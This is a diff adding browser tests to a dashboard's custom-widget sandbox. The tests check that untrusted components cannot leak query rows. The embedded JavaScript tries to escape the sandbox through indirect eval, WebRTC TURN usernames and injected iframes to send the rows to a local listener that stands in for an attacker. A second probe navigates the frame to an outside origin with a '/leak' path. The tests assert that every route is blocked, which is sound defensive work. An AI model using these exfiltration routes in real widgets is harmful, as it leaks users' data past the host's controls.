@@ -5,6 +5,11 @@ Widgets are written straight to the database, as in test_pages.py.
 """
 from __future__ import annotations
 
+import socket
+import threading
+import time
+from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from typing import Any
 
 import pytest
@@ -73,6 +78,85 @@ function Widget(props) {
     React.createElement("li", { key, "data-testid": "probe-" + key }, report[key])));
 }
 """
+
+
+# Also hand-written: WebRTC sends STUN/TURN packets that no CSP directive covers. The TURN
+# server is a UDP socket of the test's; the username carries the rows. Every route to an
+# RTCPeerConnection is tried, and what each one gave is written into the component's DOM.
+WEBRTC_JS = """
+function Widget(props) {
+  const [report, setReport] = React.useState({});
+  React.useEffect(() => {
+    const g = (0, eval)("this");
+    const config = { iceServers: [{ urls: "turn:127.0.0.1:TURN_PORT?transport=udp",
+      username: JSON.stringify(props.rows), credential: "x" }] };
+    const note = (key, value) => setReport((old) => Object.assign({}, old, { [key]: value }));
+    const attempt = (key, fn) => { try { note(key, "read:" + String(fn())); } catch (e) { note(key, "blocked:" + e.name); } };
+    const leak = (W) => {
+      const pc = new W.RTCPeerConnection(config);
+      pc.createDataChannel("rows");
+      pc.createOffer().then((offer) => pc.setLocalDescription(offer));
+      return "sent";
+    };
+    attempt("type-eval", () => typeof g.RTCPeerConnection);
+    attempt("eval", () => leak(g));
+    attempt("globalThis", () => leak(globalThis));
+    attempt("webkit", () => new g.webkitRTCPeerConnection(config) && "sent");
+    attempt("media", () => typeof g.navigator.mediaDevices);
+    attempt("iframe", () => {
+      const frame = g.document.createElement("iframe");
+      g.document.body.appendChild(frame);
+      return leak(frame.contentWindow);
+    });
+    attempt("innerHTML", () => {
+      const box = g.document.createElement("div");
+      box.innerHTML = "<iframe></iframe>";
+      g.document.body.appendChild(box);
+      return leak(g[0]);
+    });
+  }, []);
+  return React.createElement("ul", null, Object.keys(report).sort().map((key) =>
+    React.createElement("li", { key, "data-testid": "probe-" + key }, report[key])));
+}
+"""
+
+
+@pytest.fixture
+def udp_listener() -> Iterator[socket.socket]:
+    """A UDP socket on 127.0.0.1 standing in for an attacker's TURN server."""
+    listener = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    listener.bind(("127.0.0.1", 0))
+    listener.settimeout(3)
+    try:
+        yield listener
+    finally:
+        listener.close()
+
+
+@pytest.fixture
+def outside_server() -> Iterator[tuple[str, list[str]]]:
+    """An HTTP server on another origin than the live server; yields its URL and the paths it was asked for."""
+    hits: list[str] = []
+
+    class Record(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            hits.append(self.path)
+            self.send_response(200)
+            self.send_header("Content-Type", "text/html")
+            self.end_headers()
+            self.wfile.write(b"<p>outside</p>")
+
+        def log_message(self, *args: Any) -> None:
+            pass
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Record)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    try:
+        yield f"http://127.0.0.1:{server.server_port}", hits
+    finally:
+        server.shutdown()
+        server.server_close()
 
 
 @pytest.fixture(autouse=True)
@@ -162,6 +246,60 @@ def test_a_component_that_navigates_its_frame_away_is_stopped(
 
     expect(custom_card(browser_page).get_by_test_id("custom-error")).to_have_text(
         "The custom component failed: it tried to leave its sandbox and was stopped.")
+
+
+def test_a_component_cannot_send_its_rows_over_webrtc(
+    browser_page: Page, live_server: Any, board: Dashboard, udp_listener: socket.socket
+) -> None:
+    port = udp_listener.getsockname()[1]
+    add_widget(board, spec=SPEC, result=RESULT, component_js=WEBRTC_JS.replace("TURN_PORT", str(port)))
+    open_dashboard(browser_page, live_server.url, board)
+
+    frame = browser_page.frame_locator("[data-testid=custom-frame]")
+    expect(frame.get_by_test_id("probe-type-eval")).to_have_text("read:undefined")
+    expect(frame.get_by_test_id("probe-eval")).to_have_text("blocked:TypeError")
+    expect(frame.get_by_test_id("probe-globalThis")).to_have_text("blocked:TypeError")
+    expect(frame.get_by_test_id("probe-webkit")).to_have_text("blocked:TypeError")
+    expect(frame.get_by_test_id("probe-media")).to_have_text("read:undefined")
+    # A new frame would be a new window with its own RTCPeerConnection: none can be made.
+    expect(frame.get_by_test_id("probe-iframe")).to_have_text("blocked:TypeError")
+    expect(frame.get_by_test_id("probe-innerHTML")).to_have_text("blocked:TypeError")
+    with pytest.raises(TimeoutError):
+        packet, sender = udp_listener.recvfrom(4096)
+        pytest.fail(f"the component sent {len(packet)} bytes over UDP from {sender}")
+    expect(custom_card(browser_page).get_by_test_id("custom-error")).to_have_count(0)
+
+
+def test_a_component_cannot_navigate_its_frame_to_another_origin(
+    browser_page: Page, live_server: Any, board: Dashboard, outside_server: tuple[str, list[str]]
+) -> None:
+    url, hits = outside_server
+    js = f'function Widget(props) {{ (0, eval)("this").location.href = "{url}/leak?" + props.rows.length; return null; }}'
+    add_widget(board, spec=SPEC, result=RESULT, component_js=js)
+    open_dashboard(browser_page, live_server.url, board)
+
+    # The dashboard's frame-src refuses the navigation; the frame's second load reports it.
+    expect(custom_card(browser_page).get_by_test_id("custom-error")).to_have_text(
+        "The custom component failed: it tried to leave its sandbox and was stopped.")
+    time.sleep(1)  # a request let through would have arrived by now
+    assert hits == []
+
+
+def test_a_ready_custom_widget_whose_rows_do_not_fit_says_why_without_a_retry_button(
+    browser_page: Page, live_server: Any, board: Dashboard
+) -> None:
+    # Ready and live, so the retry API would refuse it: the owner gets the reason, not a dead button.
+    misfit = {"columns": ["region", "state", "claim_count"], "rows": [["Midwest", "OH", 4210]], "truncated": False}
+    add_widget(board, spec=SPEC, result=misfit, component_js=tsx_free_component())
+    open_dashboard(browser_page, live_server.url, board)
+
+    card = custom_card(browser_page)
+    expect(card.get_by_test_id("widget-failure")).to_contain_text("The query returned 3 column(s)")
+    expect(card.get_by_test_id("widget-retry")).to_have_count(0)
+
+
+def tsx_free_component() -> str:
+    return "function Widget(props) { return React.createElement('p', null, props.title); }"
 
 
 def test_a_custom_widget_without_a_component_shows_the_failure_view(
